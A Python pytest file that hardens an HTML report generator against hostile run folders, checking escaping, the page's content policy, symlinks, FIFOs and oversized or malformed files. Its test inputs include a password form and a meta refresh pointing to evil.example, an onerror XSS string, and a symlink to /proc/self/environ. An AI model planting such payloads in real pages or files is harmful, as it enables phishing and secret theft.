"""`nas report` on hostile and careless run folders (issue 55): markup from the run reaches the page only as text, in
every section; no link is followed out of the folder, for any file the page reads; a FIFO never blocks it; a huge
file, JSON of the wrong types or nesting, a huge CSV cell, a name that is not UTF-8 end in a page that says what it
left out, never a traceback; `--out` never overwrites a file the report reads; the page's policy forbids forms and
a <base>.  Each case runs the real command (`nas.cli.main`); those that could hang or exhaust memory on a
regression run it in a child process with a timeout and a memory limit."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.nas.report_fakes import demo_folder, png, search_folder, write_json

ROOT = Path(__file__).resolve().parents[2]
FORM = "<form action=https://evil.example><input name=pw></form>"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example">'
SECRET = "SECRET-7f3a9c"


def report(folder: Path, out: Path, capsys) -> tuple[int, str, str]:
    from nas.cli import main

    code = main(["report", str(folder), "--out", str(out)])
    captured = capsys.readouterr()
    return code, out.read_text(encoding="utf-8") if out.exists() else "", captured.err


def assert_inert(page: str) -> None:
    """No markup of the run's is markup in the page: no form, no input, no refresh, no script, no other <meta>."""
    assert "<form" not in page and "<input" not in page and "<script" not in page
    assert not re.search(r"<meta[^>]*refresh", page, re.I)
    assert len(re.findall(r"<meta", page)) == 4  # charset, the policy, referrer, viewport: the page's own


def section(page: str, title: str) -> str:
    """The HTML of the section headed ``title`` (to its end)."""
    start = page.index(f"<h2>{title}</h2>")
    return page[start:page.index("</section>", start)]


def edit_json(path: Path, change) -> None:
    doc = json.loads(path.read_text())
    change(doc)
    path.write_text(json.dumps(doc))


# --------------------------------------------------------------------------- 1. markup, in every section


def _card(d: Path) -> None:  # the reproducer
    edit_json(d / "model" / "model_card.json", lambda c: c["latency"].update(predicted_ms=FORM))


def _result(d: Path) -> None:
    def change(s):
        s["found"]["measured_ms"] = FORM
        s["baselines"][2]["bpb"] = REFRESH
    edit_json(d / "summary.json", change)


def _verify(d: Path) -> None:
    edit_json(d / "search" / "verify.json", lambda v: v["budgets"]["6ms"].update(budget_ms=FORM))


def _search(d: Path) -> None:
    edit_json(d / "search" / "search.json", lambda s: s.update(evaluations=FORM))


def _predictor(d: Path) -> None:
    edit_json(d / "predictor" / "predictor.json", lambda p: p.update(metrics=[FORM]))


def _comparison(d: Path) -> None:
    text = (d / "comparison.csv").read_text().replace("uniform linear", FORM.replace(",", " "))
    (d / "comparison.csv").write_text(text + f"uniform huge,{'x' * 200_000},k,1,7.9,16,7.9,3,2.0,2.0,0.0,load,,\n")


def _stages(d: Path) -> None:
    edit_json(d / "summary.json", lambda s: s.update(stage_seconds=[FORM], plan=FORM))


def _training(d: Path) -> None:
    with open(d / "supernet" / "log.jsonl", "a") as f:
        f.write(json.dumps({"event": "eval", "step": 110, "bpb": {FORM: 6.1}}) + "\n" + "{" * 100_000 + "\n")


def _other_files(d: Path) -> None:
    (d / os.fsdecode(b"notes-\xff-<img src=x onerror=alert(1)>.txt")).write_text(FORM)


def _reproduce(d: Path) -> None:
    edit_json(d / "search" / "search.json", lambda s: s.update(nas_version=FORM))


ESCAPED = "&lt;form action=https://evil.example&gt;"
MARKUP = {  # section: (what the run folder gets, the section that says so, what it says, the run's text shown escaped)
    "Model card": (_card, "Model card", "model_card.json.latency.predicted_ms: text (56 characters), expected a "
                   "number: left out", ESCAPED),  # in "every field"
    "Result": (_result, "Result", "summary.json.found.measured_ms: text (56 characters), expected a number: left out",
               None),
    "Verification on the device": (_verify, "Verification on the device", "verify.json.budgets.6ms.budget_ms: text (56 "
                                   "characters), expected a number: left out", None),
    "Search: the Pareto front": (_search, "Search: the Pareto front", "search.json.evaluations: text (56 characters), "
                                 "expected a number: left out", None),
    "Latency predictor": (_predictor, "Latency predictor", "predictor.json.metrics: a list of 1, expected an object: "
                          "left out", None),
    "Comparison with the uniform baselines (comparison.csv)": (
        _comparison, "Comparison with the uniform baselines (comparison.csv)",
        "comparison.csv: line 7: field larger than field limit (131072); the rows after it are not shown", ESCAPED),
    "Stages": (_stages, "Result", "summary.json.stage_seconds: a list of 1, expected an object: left out", None),
    "Training the supernet: the learning curve (supernet/log.jsonl)": (
        _training, "Training the supernet: the learning curve (supernet/log.jsonl)",
        "log.jsonl: 1 lines that are not the log&#39;s events: skipped", ESCAPED),
    "Other files": (_other_files, "Other files", "<h3 id=\"notes-img-src-x-onerror-alert-1-txt\">notes-\ufffd-&lt;img "
                    "src=x onerror=alert(1)&gt;.txt</h3>", ESCAPED),
    "Reproduce": (_reproduce, "Reproduce", "<td>nas-transformers</td><td>&lt;form", ESCAPED),
}


@pytest.mark.parametrize("title", list(MARKUP))
def test_markup_and_wrong_types_from_the_run_are_text_in_every_section(tmp_path, capsys, title):
    change, where, says, escaped = MARKUP[title]
    d = demo_folder(tmp_path / "run")
    change(d)
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    assert_inert(page)
    assert f"<h2>{title}</h2>" in page or title == "Stages"  # the section is there (Stages: left out, said in Result)
    assert says in section(page, where)
    if escaped:
        assert escaped in section(page, title)


def test_the_page_policy_forbids_forms_and_base_and_allows_only_its_own_style(tmp_path, capsys):
    d = demo_folder(tmp_path / "run")
    _card(d)
    code, page, _ = report(d, tmp_path / "page.html", capsys)
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
    policy = policy.replace("&#39;", "'")
    for directive in ("default-src 'none'", "img-src data:", "form-action 'none'", "base-uri 'none'"):
        assert directive in policy
    assert "unsafe-inline" not in policy
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.S)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy
    assert " style=" not in page  # no inline style attribute (the policy would block it)


# --------------------------------------------------------------------------- 2. links out of the folder


@pytest.fixture
def outside(tmp_path):
    """Files outside the run folder that a link in it could reach: a secret text, image, JSON, CSV and folder."""
    o = tmp_path / "outside"
    o.mkdir()
    (o / "secret.txt").write_text(f"{SECRET}\n")
    (o / "secret.png").write_bytes(png(2, 2) + SECRET.encode())
    write_json(o / "secret.json", {"secret": SECRET, "format": "nas-exported-model"})
    (o / "secret.csv").write_text(f"name,bpb\n{SECRET},1\n")
    search_folder(o / "search")
    (o / "search" / "verify.json").write_text(json.dumps({"device": {"device": SECRET}}))
    (o / "supernet").mkdir()
    (o / "supernet" / "log.jsonl").write_text(json.dumps({"event": "eval", "step": 1, "bpb": {SECRET: 1.0}}) + "\n")
    return o


def _link(path: Path, target: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        import shutil

        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to(target)


LINKS = {  # the file a link replaces (in a demo run), what it points to outside
    "env.log": "secret.txt",
    "summary.json": "secret.json",
    "comparison.csv": "secret.csv",
    "search": "search",
    "search/pareto.csv": "secret.csv",
    "search/verify.json": "secret.json",
    "search/hurdles.json": "secret.json",
    "predictor/predictor.json": "secret.json",
    "predictor/predicted_vs_measured.png": "secret.png",
    "model/model_card.json": "secret.json",
    "supernet": "supernet",
    "supernet/log.jsonl": "secret.txt",
    "notes.md": "secret.txt",
}


@pytest.mark.parametrize("rel", list(LINKS))
def test_no_link_is_followed_out_of_the_run_folder(tmp_path, outside, capsys, rel):
    d = demo_folder(tmp_path / "run")
    _link(d / rel, outside / LINKS[rel])
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    assert SECRET not in page and base64.b64encode((outside / "secret.png").read_bytes()).decode()[:40] not in page
    assert "a symbolic link" in page  # said where it was left out


def test_a_markdown_image_or_figure_that_is_a_link_is_not_embedded(tmp_path, outside, capsys):
    d = tmp_path / "bench"
    d.mkdir()
    (d / "README.md").write_text("# Results\n\n![the figure](leak.png) and [the data](leak.json)\n")
    (d / "leak.png").symlink_to(outside / "secret.png")
    (d / "leak.json").symlink_to(outside / "secret.json")
    (d / "pareto.png").symlink_to(outside / "secret.png")
    (d / "env.log").symlink_to("/proc/self/environ")
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    environ = Path("/proc/self/environ").read_bytes().split(b"\0")[0].decode(errors="replace")
    assert environ not in page and SECRET not in page and "data:image/png" not in page
    assert "the figure" in page  # the image's alt text stays
    for name in ("leak.png", "leak.json", "pareto.png", "env.log"):
        assert f"{name}: a symbolic link, not read" in page


def test_a_search_folder_s_pareto_png_that_is_a_link_is_not_embedded(tmp_path, outside, capsys):
    s = search_folder(tmp_path / "search")
    _link(s / "pareto.png", outside / "secret.png")
    code, page, _ = report(s, tmp_path / "page.html", capsys)
    assert code == 0 and SECRET not in page
    assert "pareto.png: a symbolic link, not a regular file: not read" in section(page, "Search")


# --------------------------------------------------------------------------- 4. FIFOs, bombs, types: never a traceback


def run_cli(folder: Path, out: Path, timeout: float = 240, memory_gb: float = 2.0) -> subprocess.CompletedProcess:
    """`nas report` in a child process: a hang is a timeout, a read of everything a MemoryError, not a frozen machine."""
    import resource

    def limit():
        cap = int(memory_gb * 2**30)
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    env = {**os.environ, "PYTHONPATH": str(ROOT), "OMP_NUM_THREADS": "1"}
    try:
        return subprocess.run([sys.executable, "-m", "nas", "report", str(folder), "--out", str(out)], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=timeout, preexec_fn=limit)
    except subprocess.TimeoutExpired:
        pytest.fail(f"nas report {folder} did not finish in {timeout} s (a FIFO opened, or a file read whole?)")


def test_fifos_where_files_go_are_named_and_never_opened(tmp_path):
    d = demo_folder(tmp_path / "run")
    for rel in ("env.log", "comparison.csv", "model/model_card.json", "supernet/log.jsonl", "predictor/predictor.json",
                "search/verify.json"):
        (d / rel).unlink(missing_ok=True)
        os.mkfifo(d / rel)
    s = search_folder(tmp_path / "search")
    (s / "pareto.png").unlink()
    os.mkfifo(s / "pareto.png")
    for folder in (s, d):  # the search's pareto.png first: the FIFO the issue found hanging the report
        done = run_cli(folder, tmp_path / f"{folder.name}.html")
        assert (done.returncode, done.stderr) == (0, ""), done.stderr[-3000:]
        page = (tmp_path / f"{folder.name}.html").read_text()
        assert "a FIFO, not a regular file: not read" in page
    page = (tmp_path / "run.html").read_text()
    assert "env.log: a FIFO, not read" in page
    for rel in ("comparison.csv", "model/model_card.json", "supernet/log.jsonl", "predictor/predictor.json",
                "search/verify.json"):
        assert f"{d / rel}: a FIFO, not a regular file: not read" in page


def test_a_6_gb_log_is_shown_by_its_ends_and_bombs_end_in_a_page(tmp_path):
    d = tmp_path / "bench"
    d.mkdir()
    with open(d / "train.log", "wb") as f:  # sparse: 6 GB on paper, a few bytes on disk
        f.write(b"FIRST LINE\n")
        f.seek(6 * 2**30)
        f.write(b"\nLAST LINE\n")
    (d / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (d / "digits.json").write_text("1" * 5_000)  # more digits than Python converts to an int
    with open(d / "huge.json", "wb") as f:
        f.truncate(100 * 2**20)
    (d / "cell.csv").write_text(f"name,value\nok,1\nbig,{'x' * 200_000}\n")
    (d / os.fsdecode(b"r\xe9sultats.txt")).write_text("latin-1 name\n")
    (d / "bomb.png").write_bytes(png(20_000, 20_000))
    (d / "text.png").write_text("not an image")
    done = run_cli(d, tmp_path / "page.html")
    assert (done.returncode, done.stderr) == (0, ""), done.stderr[-3000:]
    page = (tmp_path / "page.html").read_text(encoding="utf-8")  # valid UTF-8 whatever the names
    assert "FIRST LINE" in page and "LAST LINE" in page
    assert f"{6 * 2**30 + 11 - 100_000:,} of its {6 * 2**30 + 11:,} bytes not shown" in page
    assert f"{d / 'deep.json'}: JSON nested deeper than 64 levels: not read" in page
    assert f"{d / 'digits.json'}: not valid JSON (Exceeds the limit" in page
    assert f"{d / 'huge.json'}: 104,857,600 bytes, over the 16,777,216-byte limit of a JSON document: not read" in page
    assert f"{d / 'cell.csv'}: line 3: field larger than field limit (131072); the rows after it are not shown" in page
    assert "<h2>r\ufffdsultats.txt</h2>" in page and "latin-1 name" in page
    assert f"{d / 'bomb.png'}: a PNG of 20,000 x 20,000 pixels, over the 50,000,000-pixel limit" in page
    assert f"{d / 'text.png'}: not a PNG image (no PNG signature): not embedded" in page


WRONG_TYPES = {  # a file of a demo run, a change of types in it, what the page then says
    "summary.json": (lambda s: s.update(baselines={"a": 1}, within_budget="yes", sample=[1]),
                     "summary.json.baselines: an object, expected a list: left out"),
    "search/search.json": (lambda s: s.update(budgets=[1, 2], config="x", figure={"limits_ms": "4.8"}),
                           "search.json.budgets: a list of 2, expected an object: left out"),
    "search/verify.json": (lambda v: v.update(budgets={"6ms": {"checks": {"rank": 1}}}, device=[]),
                           "verify.json.budgets.6ms.checks: an object, expected a list: left out"),
    "predictor/predictor.json": (lambda p: p.update(metrics={"cv": [1], "held_out": "0.1"}),
                                 "predictor.json.metrics.cv: a list of 1, expected an object: left out"),
    "model/model_card.json": (lambda c: c.update(validation=[], measured={"median_ms": True, "flags": "load"}),
                              "model_card.json.validation: a list of 0, expected an object: left out"),
}


@pytest.mark.parametrize("rel", list(WRONG_TYPES))
def test_json_of_the_wrong_types_is_left_out_and_said(tmp_path, capsys, rel):
    change, says = WRONG_TYPES[rel]
    d = demo_folder(tmp_path / "run")
    edit_json(d / rel, change)
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    assert says in page


def test_a_summary_that_is_not_json_or_not_a_demo_s_is_refused_in_one_line(tmp_path, capsys):
    from nas.cli import main

    d = demo_folder(tmp_path / "run")
    (d / "summary.json").write_text("[" * 100_000)
    assert main(["report", str(d), "--out", str(tmp_path / "p.html")]) == 2
    assert capsys.readouterr().err == f"nas report: error: {d / 'summary.json'}: JSON nested deeper than 64 levels: not read\n"
    (d / "summary.json").write_text(json.dumps({"found": "x"}))
    assert main(["report", str(d), "--out", str(tmp_path / "p.html")]) == 2
    assert capsys.readouterr().err == (f"nas report: error: {d / 'summary.json'}: not the summary of `nas demo` "
                                       "(no 'found' entry)\n")
    assert not (tmp_path / "p.html").exists()


# --------------------------------------------------------------------------- 5. --out is never an input


@pytest.mark.parametrize("out", ["summary.json", "search/pareto.csv", "model/model_card.json", "notes.md", "new.txt"])
def test_out_inside_the_run_folder_is_refused_unless_it_is_a_page(tmp_path, capsys, out):
    from nas.cli import main
    from nas.report import write_report
    from search_spaces import UserError

    d = demo_folder(tmp_path / "run")
    (d / "notes.md").write_text("# notes\n")
    before = {p: p.read_bytes() for p in d.rglob("*") if p.is_file()}
    (tmp_path / "alias").symlink_to(d)  # the same folder by another name
    for given in (d / out, tmp_path / "alias" / out):
        assert main(["report", str(d), "--out", str(given)]) == 2
        err = capsys.readouterr().err
        assert err == (f"nas report: error: --out {given}: inside the run folder {d}, where the report reads its files; "
                       f"write the page to an .html file (default {d / 'report.html'}) or outside the folder\n")
        with pytest.raises(UserError, match="inside the run folder"):
            write_report(d, given)
    assert {p: p.read_bytes() for p in d.rglob("*") if p.is_file()} == before  # nothing written, nothing replaced
    assert main(["report", str(d), "--out", str(d / "page.html")]) == 0  # a page inside it is fine
    assert main(["report", str(d)]) == 0 and (d / "report.html").exists()


def test_a_page_reads_a_bounded_amount_of_the_folder(tmp_path, capsys, monkeypatch):
    """Many large figures, a JSON document of many small values, a long training log: the page stops at its limits
    (scaled down here) and says so, instead of growing with the folder."""
    import nas.report as R
    from nas.report_figures import MAX_EVENTS, curves

    monkeypatch.setattr(R, "MAX_READ", 4 * 2**20)
    monkeypatch.setattr(R, "MAX_VALUES", 500)
    d = tmp_path / "bench"
    d.mkdir()
    for i in range(10):
        (d / f"figure{i}.png").write_bytes(png(8, 8) + b"\0" * 2**20)
    write_json(d / "wide.json", {f"k{i}": {f"j{j}": i * j for j in range(50)} for i in range(50)})
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    assert page.count("data:image/png;base64,") == 3  # 3 x 1 MB of figures, base64, within the 4 MB
    assert "figure3.png: not shown: the page already holds 3,145,932 bytes of the folder&#39;s files (at most 4,194,304)" \
        in page
    d.joinpath("figure0.png").unlink()
    for i in range(1, 10):
        d.joinpath(f"figure{i}.png").unlink()
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert "and 40 more fields (not shown: the page shows about 500 values of a document)" in page  # 10 of 50 keys
    lines = [json.dumps({"event": "train", "step": i, "loss": {"largest": 1 / i}}) for i in range(1, 100_001)]
    c = curves(lines)
    steps = [p[0] for p in c.train["largest"]]
    assert len(steps) <= MAX_EVENTS + 1 and steps[0] == 1 and steps[-1] == 100_000  # evenly thinned, the last kept


def test_numbers_no_figure_can_place_are_left_out_of_the_figures(tmp_path, capsys):
    """1e308, a 10^30th generation or step, a 200 KB title: the figures the page draws leave them out (matplotlib's
    transforms fail on them) and say so; the page is made."""
    d = demo_folder(tmp_path / "run")

    def change(s):
        s["figure"].update(title="x" * 200_000, budgets_ms=[1e308], limits_ms=[-1e308])
        s["budgets"]["6ms"]["best"]["latency_ms"] = 1e300
    edit_json(d / "search" / "search.json", change)
    rows = (d / "search" / "pareto.csv").read_text().splitlines()
    first = rows[1].split(",")
    first[2], first[3] = str(10**30), "1e308"
    (d / "search" / "pareto.csv").write_text("\n".join([rows[0], ",".join(first), *rows[2:]]) + "\n")
    with open(d / "supernet" / "log.jsonl", "a") as f:
        f.write(json.dumps({"event": "train", "step": 10**30, "loss": {"largest": -1e308}}) + "\n")
    code, page, err = report(d, tmp_path / "page.html", capsys)
    assert (code, err) == (0, "")
    search = section(page, "Search: the Pareto front")
    assert "pareto.csv: 1 rows whose loss or latency is not a number a figure can place: not drawn" in search
    assert "pareto.csv: 1 rows whose generation, loss or latency is not a number a figure can place: not plotted" in search
    assert search.count("data:image/png;base64,") == 2  # the front with the baselines, the best per generation
    assert "data:image/png;base64," in section(page, "Training the supernet: the learning curve (supernet/log.jsonl)")
